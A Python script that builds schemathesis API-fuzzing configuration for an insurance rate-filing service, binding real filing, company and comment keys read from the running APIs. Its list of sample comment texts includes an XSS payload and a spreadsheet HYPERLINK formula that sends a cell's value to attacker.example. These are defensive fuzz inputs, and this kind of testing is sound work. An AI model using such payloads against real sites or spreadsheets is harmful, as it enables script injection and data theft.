"""Writes the schemathesis configuration of the API fuzzing (scripts/lib/fuzz.sh).

Generated values alone rarely name a filing, company or comment that exists, so most cases would
stop at a 404 or 400 before the handler's real work. This reads the keys that do exist from the
running APIs and binds them as schemathesis dictionaries: each parameter or body field named in
BINDINGS takes a real key (or, for a comment, a realistic text) in half of the cases and a
generated value in the other half.

Usage: fuzz_config.py DIR PUBLIC_BASE ADMIN_BASE BEARER_TOKEN
writes DIR/public-api.toml and DIR/admin-api.toml.
"""

import json
import sys
import urllib.request

# The share of cases in which a bound parameter takes a real key instead of a generated value.
PROBABILITY = 0.5
# Filings whose single-filing answer is read for attachment keys and comment periods.
FILINGS_SAMPLED = 12
# Comments as people write them, and as attackers do: markup, a
# spreadsheet formula, a right-to-left override, emoji, the longest comment accepted.
COMMENT_TEXTS = [
    "Why is this rate going up more than 10% when my benefits stay the same?",
    "<script>alert('x')</script><img src=x onerror=alert(1)>",
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "Précis: \u202eevil\u202c — 保険料 💸",
    "x" * 4000,
]
# The single-filing address names four keys at once: independent picks from the key lists
# would almost never name a real filing, so this operation draws them from one filing.
ONE_FILING_PATH = "/company-products/{companyProductPk}/{filingId}/{companyPk}/{toiId}"
ONE_FILING_PROBABILITY = 0.8


def get(url, token=None):
    request = urllib.request.Request(url)
    if token:
        request.add_header("Authorization", f"Bearer {token}")
    with urllib.request.urlopen(request, timeout=30) as response:
        return json.load(response)


def collect(public, admin, token):
    """The keys of the data the APIs hold, by dictionary name."""
    filings = get(f"{public}/filings") + get(f"{public}/rates")
    keys = {
        "filingIds": {f["filingId"] for f in filings},
        "companyProductPks": {f["companyProductPk"] for f in filings},
        "companyPks": {f["companyPk"] for f in filings},
        "toiIds": {f["toiId"] for f in filings},
        "years": set(get(f"{public}/get-years")),
        "attachmentKeys": set(),
        "commentKeys": set(),
    }
    open_for_comments, closed = set(), set()
    for f in filings[:FILINGS_SAMPLED]:
        page = get(f"{public}/company-products/{f['companyProductPk']}/{f['filingId']}/{f['companyPk']}/{f['toiId']}")
        for filing in page["filingList"]:
            keys["attachmentKeys"].update(a["attachmentKey"] for a in filing["attachments"])
            period = filing.get("commentPeriod") or {}
            (open_for_comments if period.get("open") else closed).add(filing["filingId"])
    # Mostly filings that take comments, so the POST gets past its 404 and 409 to the store
    # (and, from one client, to the rate limit's 429).
    keys["commentFilingIds"] = open_for_comments | set(sorted(closed)[:2])
    keys["commentTexts"] = set(COMMENT_TEXTS)
    first = filings[0]
    keys["oneFiling_companyProductPk"] = {first["companyProductPk"]}
    keys["oneFiling_filingId"] = {first["filingId"]}
    keys["oneFiling_companyPk"] = {first["companyPk"]}
    keys["oneFiling_toiId"] = {first["toiId"]}
    companies = get(f"{admin}/api/companies", token)
    keys["companyPks"].update(c["companyPk"] for c in companies)
    keys["coCodes"] = {c["coCode"] for c in companies}
    keys["productTypePks"] = {t["productTypePk"] for t in get(f"{admin}/api/companies/product-types", token)}
    keys["commentKeys"].update(c["commentKey"] for c in get(f"{admin}/api/comments", token))
    keys["formIds"] = {f["formId"] for f in get(f"{admin}/api/insurance-forms", token)}
    keys["userPks"] = {u["userPk"] for u in get(f"{admin}/api/users", token)}
    compare_years = get(f"{admin}/api/compare-years", token)
    keys["compareYearIds"] = {y["id"] for y in compare_years}
    keys["years"].update(y["year"] for y in compare_years)
    empty = [name for name, values in keys.items() if not values]
    if empty:
        sys.exit(f"fuzz_config: the APIs hold no {', '.join(empty)}: seed the database first (the demo crate's seed binary)")
    return keys


# Where each dictionary's keys go: "path.NAME", "query.NAME" or "body.FIELD" (schemathesis
# binding keys; a binding an operation lacks is ignored).
BINDINGS = {
    "path.companyProductPk": "companyProductPks",
    "path.filingId": "filingIds",
    "path.companyPk": "companyPks",
    "path.toiId": "toiIds",
    "path.year": "years",
    "path.attachmentKey": "attachmentKeys",
    "path.id": "formIds",
    "body.filingKey": "commentFilingIds",
    "body.commentary": "commentTexts",
    "body.commentKey": "commentKeys",
    "body.companyPk": "companyPks",
    "body.coCode": "coCodes",
    "body.products[*].productTypeFk": "productTypePks",
    "body.formId": "formIds",
    "body.userPk": "userPks",
    "body.id": "compareYearIds",
    "body.year": "years",
    "body.planYear": "years",
}


def toml_value(value):
    # A JSON string or number is a TOML one too (as UTF-8: TOML has no surrogate escapes).
    return json.dumps(value, ensure_ascii=False)


def render(keys, public):
    lines = ["# Generated by scripts/lib/fuzz_config.py from the running APIs; do not edit.", ""]
    for name, values in sorted(keys.items()):
        items = ", ".join(toml_value(v) for v in sorted(values, key=lambda v: (isinstance(v, str), v)))
        lines += [f"[dictionaries.{name}]", f"values = [{items}]", ""]
    lines.append("[parameters]")
    for binding, name in BINDINGS.items():
        lines.append(f'"{binding}" = {{ dictionary = "{name}", probability = {PROBABILITY} }}')
    if public:
        lines += ["", "[[operations]]", f'include-path = "{ONE_FILING_PATH}"', "[operations.parameters]"]
        for name in ("companyProductPk", "filingId", "companyPk", "toiId"):
            lines.append(
                f'"path.{name}" = {{ dictionary = "oneFiling_{name}", probability = {ONE_FILING_PROBABILITY} }}'
            )
    return "\n".join(lines) + "\n"


def main():
    out, public, admin, token = sys.argv[1:5]
    keys = collect(public, admin, token)
    for name, is_public in (("public-api", True), ("admin-api", False)):
        with open(f"{out}/{name}.toml", "w", encoding="utf-8") as f:
            f.write(render(keys, is_public))


if __name__ == "__main__":
    main()
